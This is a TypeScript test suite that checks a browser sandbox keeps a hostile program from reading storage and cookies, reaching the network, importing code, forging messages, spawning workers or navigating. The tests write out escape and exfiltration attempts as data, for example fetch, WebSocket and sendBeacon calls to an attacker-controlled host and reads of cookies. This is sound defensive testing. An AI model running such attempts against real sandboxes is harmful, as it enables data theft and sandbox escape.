import { describe, expect, it } from 'vitest';

import type { RunReport } from '../../features/run/shared/messages.js';
import { at } from '../support/browser.js';
import { useHostilePage } from '../support/hostile-page.js';
import { printed, run } from '../support/sandbox.js';

/** Returns what an expression gives, or the name of its error. */
const attempt = `
  const attempt = async (action) => {
    try {
      return String(await action());
    } catch (error) {
      return error.name;
    }
  };`;

const hostile = useHostilePage();

/** Runs expressions in the program's worker and returns what each gives. */
async function attemptAll(expressions: readonly string[]): Promise<string[]> {
  const calls = expressions.map((each) => `console.log(await attempt(async () => ${each}));`);
  return printed(await run(hostile.page, `${attempt}\n${calls.join('\n')}`));
}

/** Runs expressions in a worker of the frame that nothing was removed from: only the frame's policy is left. */
async function attemptInBareWorker(expressions: readonly string[]): Promise<string[]> {
  const list = expressions.map((each) => `await attempt(async () => ${each})`).join(',');
  return hostile.frame.evaluate(
    (code) =>
      new Promise((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = ({ data }) => {
          resolve(data as string[]);
        };
      }),
    `${attempt} (async () => postMessage([${list}]))();`,
  );
}

it('notices hostile.requests at all', async () => {
  await hostile.page.evaluate(
    async ([foreign, own]) => {
      await fetch(`http://${foreign}`).catch(() => undefined);
      await fetch(own);
    },
    [hostile.host, at('/')] as const,
  );
  expect(hostile.server.connections).toBeGreaterThan(0);
  expect(hostile.requests.some((url) => url.includes(hostile.host))).toBe(true);
  await expect.poll(() => hostile.requests).toContain(at('/'));
  hostile.server.forget();
  hostile.requests = [];
});

describe('a hostile program', () => {
  it('reads no storage', async () => {
    const expressions = [
      'localStorage.secret',
      'sessionStorage.secret',
      'document.cookie',
      'cookieStore.get("secret")',
      'indexedDB.open("a")',
      'caches.keys()',
      'navigator.storage.getDirectory()',
    ];
    expect(await attemptAll(expressions)).toEqual([
      ...Array<string>(6).fill('ReferenceError'),
      'TypeError',
    ]);
  });

  it('finds no parent, opener, top or document', async () => {
    const expressions = [
      'parent.document',
      'opener.document',
      'top.location',
      'window',
      'document',
    ];
    expect(await attemptAll(expressions)).toEqual(Array(5).fill('ReferenceError'));
    expect(await attemptAll(['self.origin', 'location.protocol'])).toEqual(['null', 'blob:']);
  });

  it('sends nothing', async () => {
    const errors = {
      [`fetch('http://${hostile.host}')`]: 'TypeError',
      [`fetch('${at('/')}')`]: 'TypeError',
      [`{ const x = new XMLHttpRequest(); x.open('GET', 'http://${hostile.host}'); x.send(); }`]:
        'ReferenceError',
      [`new WebSocket('ws://${hostile.host}')`]: 'ReferenceError',
      [`new EventSource('http://${hostile.host}')`]: 'ReferenceError',
      [`new WebTransport('https://${hostile.host}')`]: 'ReferenceError',
      [`new RTCPeerConnection({ iceServers: [{ urls: 'stun:${hostile.host}' }] })`]:
        'ReferenceError',
      [`importScripts('http://${hostile.host}')`]: 'ReferenceError',
      [`importScripts('${at('/')}')`]: 'ReferenceError',
      [`navigator.sendBeacon('http://${hostile.host}')`]: 'TypeError',
      [`new FontFace('a', 'url(http://${hostile.host})').load()`]: 'ReferenceError',
      [`document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://${hostile.host}' }))`]:
        'ReferenceError',
    };
    const expressions = Object.keys(errors);
    const results = await attemptAll(expressions);
    expect(Object.fromEntries(expressions.map((each, index) => [each, results[index]]))).toEqual(
      errors,
    );
  });

  it('imports nothing', async () => {
    // Types are stripped by another tool, so that \`import\` stays.
    const load = (address: string) => `(0, eval)('import(${JSON.stringify(address)})')`;
    const module = 'data:text/javascript,export default 1';
    const expressions = [
      load(`http://${hostile.host}/a.js`),
      load(at('/')),
      load(module),
      `(0, eval)('import(' + JSON.stringify(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))) + ')')`,
    ];
    expect(await attemptAll(expressions)).toEqual(Array(4).fill('TypeError'));
  });

  it('sends nothing by any way if the removed names come back', async () => {
    const expressions = [
      `fetch('http://${hostile.host}')`,
      `fetch('${at('/')}')`,
      `new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onerror = () => reject(new TypeError()); x.open('GET', 'http://${hostile.host}'); x.send(); })`,
      `new Promise((resolve, reject) => { new WebSocket('ws://${hostile.host}').onerror = () => reject(new TypeError()); })`,
      `new Promise((resolve, reject) => { new EventSource('http://${hostile.host}').onerror = () => reject(new TypeError()); })`,
      `importScripts('http://${hostile.host}')`,
      `importScripts('${at('/')}')`,
      `importScripts('data:text/javascript,1')`,
      `importScripts(URL.createObjectURL(new Blob(['1'])))`,
      `import('http://${hostile.host}')`,
      `import('${at('/')}')`,
      `import('data:text/javascript,export default 1')`,
      `new FontFace('a', 'url(http://${hostile.host})').load()`,
      `new WebTransport('https://${hostile.host}').ready`,
      `navigator.sendBeacon('http://${hostile.host}')`,
      `new RTCPeerConnection()`,
    ];
    expect(await attemptInBareWorker(expressions)).toEqual([
      ...Array<string>(5).fill('TypeError'),
      ...Array<string>(4).fill('NetworkError'),
      ...Array<string>(3).fill('TypeError'),
      'NetworkError',
      // Needs a secure context, which an opaque origin isn't.
      'ReferenceError',
      'TypeError',
      'ReferenceError',
    ]);
  });

  it('reads no storage if the removed names come back', async () => {
    const expressions = [
      `new Promise((resolve, reject) => { const r = indexedDB.open('a'); r.onerror = () => reject(r.error); r.onsuccess = resolve; })`,
      `caches.keys()`,
      `navigator.storage.getDirectory()`,
      `navigator.locks.request('a', () => 1)`,
    ];
    const [database, ...others] = await attemptInBareWorker(expressions);
    expect(['SecurityError', 'UnknownError', 'InvalidStateError']).toContain(database);
    expect(others).not.toContain('1');
    expect(others.every((each) => each.endsWith('Error'))).toBe(true);
  });

  it('cannot post messages', async () => {
    const expressions = [
      'postMessage(1)',
      'self.postMessage(1)',
      'DedicatedWorkerGlobalScope.prototype.postMessage.call(self, 1)',
      'new BroadcastChannel("a")',
      'close()',
    ];
    expect(await attemptAll(expressions)).toEqual([
      'ReferenceError',
      'TypeError',
      'TypeError',
      'ReferenceError',
      'ReferenceError',
    ]);
  });

  it('replaces the functions that its worker uses, and reports only text that is checked', async () => {
    const result = await run(
      hostile.page,
      `const forged = { kind: 'output', level: 'shout', text: 'evil', values: 'none' };
      Object.prototype.toJSON = () => forged;
      console.log('a');
      console.log({ b: 1 });`,
      { timeLimit: 500 },
    );
    expect(result.reports).toEqual([]);
    expect(result.end.reason).toBe('error');
  });

  it('forges messages of the frame or of another run', async () => {
    const forged = await hostile.page.evaluate(async () => {
      const reports: RunReport[] = [];
      const { ended } = window.sandbox.startRun(
        { javascript: `await new Promise((resolve) => setTimeout(resolve, 300));` },
        (batch) => reports.push(...batch),
      );
      const text = JSON.stringify({ kind: 'output', level: 'log', text: 'forged', values: [] });
      for (const window_ of [window, ...Array.from(frames)]) {
        for (const run of ['', '0', 'undefined']) {
          window_.postMessage({ kind: 'reports', run, texts: [text] }, '*');
          window_.postMessage({ kind: 'end', run, end: { reason: 'time', duration: 0 } }, '*');
        }
        // A second toolkit is ignored.
        window_.postMessage({ toolkit: 'throw 1' }, '*', [new MessageChannel().port2]);
      }
      return { end: await ended, reports };
    });
    expect(forged.end.reason).toBe('done');
    expect(forged.reports).toEqual([]);
  });

  it('links to no other site from an error', async () => {
    const { end } = await run(
      hostile.page,
      `import { DowelError } from '@dowel/core/errors';
      throw new DowelError({ code: 'A', problem: 'b', docs: 'https://evil.example/' });`,
    );
    expect(end).toEqual({
      reason: 'error',
      duration: expect.any(Number) as number,
      error: { name: 'DowelError', message: 'b.', code: 'A', line: 2, column: 13 },
    });
  });

  it('spawns no workers', async () => {
    const address = `URL.createObjectURL(new Blob(['for (;;);']))`;
    const expressions = [`new Worker(${address})`, `new SharedWorker(${address})`];
    expect(await attemptAll(expressions)).toEqual(['ReferenceError', 'ReferenceError']);
  });

  it('neither draws, navigates, opens windows nor blocks', async () => {
    const expressions = [
      `document.body.append('a')`,
      `top.location.assign('http://${hostile.host}')`,
      `open('http://${hostile.host}')`,
      `alert(1)`,
      `confirm(1)`,
      `location.assign('http://${hostile.host}')`,
    ];
    expect(await attemptAll(expressions)).toEqual([
      ...Array<string>(5).fill('ReferenceError'),
      'TypeError',
    ]);
  });
});
